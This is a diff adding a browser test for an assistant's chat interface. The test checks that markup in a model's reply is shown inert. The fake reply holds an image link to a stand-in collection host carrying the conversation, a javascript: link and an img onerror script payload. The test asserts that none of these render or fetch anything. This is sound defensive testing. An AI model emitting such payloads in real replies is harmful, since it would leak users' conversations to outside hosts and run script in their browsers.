@@ -76,3 +76,43 @@ def test_upload_rebuild_then_ask_about_the_new_document_shown_as_text(page, tmp_
     assert page.locator("#sources img").count() == 0
     assert page.locator("#chat img[src=x]").count() == 0
     assert page.evaluate("window.__pwned") is None
+
+
+def test_language_model_markup_is_shown_inert_and_fetches_nothing(app_server, tmp_path):
+    from helpers import FakeChatServer, free_port
+
+    from assistant.ui import App, launch
+
+    reply = (
+        "Le barcamp s'est tenu à la Gaité lyrique [1]. "
+        "![](https://collecte.example/pixel.png?q=conversation) "
+        "[cliquez ici](javascript:window.__pwned=1) <img src=https://collecte.example/x.png onerror=window.__pwned=2>"
+    )
+    model = FakeChatServer(reply)
+    port = free_port()
+    settings = app_server[1].with_(llm_url=model.url, llm_model="tiny", read_only="1")
+    demo, _ = launch(App(settings), "127.0.0.1", port, prevent_thread_lock=True, quiet=True)
+    outside = []
+    try:
+        from playwright.sync_api import sync_playwright
+
+        with sync_playwright() as playwright:
+            browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
+            page = browser.new_page()
+            page.set_default_timeout(90_000)
+            page.on("request", lambda request: outside.append(request.url) if "127.0.0.1" not in request.url else None)
+            page.goto(f"http://127.0.0.1:{port}/")
+            page.fill("#question textarea", "Où s'est tenu le barcamp Futurs Publics en 2016 ?")
+            page.click("#ask")
+            page.locator("#chat").get_by_text("Gaité lyrique").first.wait_for()
+            page.locator("#chat a.cite").first.wait_for()
+            page.wait_for_timeout(1500)
+            assert page.locator("#chat img").count() == 0
+            assert page.locator("#chat a[href^='javascript']").count() == 0
+            assert page.locator("#chat a:not(.cite)").count() == 0  # the only links are our markers
+            assert page.evaluate("window.__pwned") is None
+            browser.close()
+    finally:
+        demo.close()
+        model.close()
+    assert outside == []
